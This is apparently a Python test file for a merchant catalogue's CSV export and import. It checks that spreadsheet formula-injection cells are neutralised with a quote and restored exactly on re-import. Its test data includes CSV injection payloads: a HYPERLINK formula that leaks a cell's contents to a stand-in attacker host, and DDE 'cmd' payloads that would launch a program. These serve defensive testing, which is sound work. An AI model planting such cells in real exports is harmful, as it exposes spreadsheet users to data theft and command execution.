"""The catalogue export cannot run formulas in a spreadsheet, and stays re-importable (issue 9, item 6): a cell
starting with =, +, -, @, a tab or a CR gets a ' in front (OWASP's advice), which the import takes off again."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from oscar.core.loading import get_model

from core.text import csv_cell_neutralise, csv_cell_restore
from merchants.catalogue_csv import catalogue_export
from merchants.catalogue_import import catalogue_import_run, catalogue_import_start
from tests.factories import MerchantFactory, make_merchant_user, make_product

StockRecord = get_model("partner", "StockRecord")
Product = get_model("catalogue", "Product")

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "+33 5 53 00 00 00",
    "-10 % sur le miel",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=déjà protégé",
    "'guillemet simple",
]


def _import(merchant, text: str):
    upload = SimpleUploadedFile("catalogue.csv", text.encode(), content_type="text/csv")
    catalogue_import = catalogue_import_start(merchant=merchant, file=upload, by=None)
    catalogue_import_run(import_id=catalogue_import.pk)
    catalogue_import.refresh_from_db()
    return catalogue_import


def exported_rows(merchant) -> list[dict]:
    return list(csv.DictReader(io.StringIO(catalogue_export(merchant=merchant)), delimiter=";"))


@pytest.mark.parametrize(
    "value",
    ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''+1", "'", "'texte", "a=b", "", "3,50"],
)
def test_neutralised_cell_is_restored_exactly(value):
    cell = csv_cell_neutralise(value)
    assert csv_cell_restore(cell) == value
    assert not cell or cell[0] not in "=+-@\t\r"


def test_export_prefixes_formula_cells_with_a_quote():
    merchant = MerchantFactory()
    for index, title in enumerate(HOSTILE_TITLES):
        product = make_product(merchant=merchant, title=title, description="=cmd|'/C calc'!A0")
        StockRecord.objects.filter(product=product).update(partner_sku=f"-{index:03d}")

    rows = exported_rows(merchant)

    assert len(rows) == len(HOSTILE_TITLES)
    for row in rows:
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
    by_sku = {row["sku"]: row for row in rows}
    assert by_sku["'-000"]["title"] == "'" + HOSTILE_TITLES[0]
    assert by_sku["'-004"]["title"] == "'=1+1"
    assert by_sku["'-005"]["title"] == "''=déjà protégé"
    assert by_sku["'-006"]["title"] == "'guillemet simple"
    assert by_sku["'-000"]["description"] == "'=cmd|'/C calc'!A0"


def test_reimport_of_an_export_gives_back_the_original_values():
    merchant = MerchantFactory()
    for index, title in enumerate(HOSTILE_TITLES):
        product = make_product(
            merchant=merchant, title=title, description=f"-{index} € <b>promo</b>", category="-Promos > =Miel"
        )
        StockRecord.objects.filter(product=product).update(partner_sku=f"-{index:03d}")
    before = {
        record.partner_sku: (record.product.title, record.product.description)
        for record in StockRecord.objects.filter(partner=merchant.partner).select_related("product")
    }
    exported = catalogue_export(merchant=merchant)

    result = _import(merchant, exported)

    assert (result.created, result.updated, result.rejected) == (0, len(HOSTILE_TITLES), [])
    after = {
        record.partner_sku: (record.product.title, record.product.description)
        for record in StockRecord.objects.filter(partner=merchant.partner).select_related("product")
    }
    assert after == before
    assert {
        category.full_name for product in Product.objects.all() for category in product.categories.all()
    } == {"-Promos > =Miel"}
    assert catalogue_export(merchant=merchant) == exported


def test_export_download_is_neutralised(client):
    merchant = MerchantFactory()
    make_product(merchant=merchant, title='=HYPERLINK("https://evil.example")')
    client.force_login(make_merchant_user(merchant))

    response = client.get(reverse("merchant-space:catalogue-export"))

    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert "'=HYPERLINK" in body.decode("utf-8-sig")
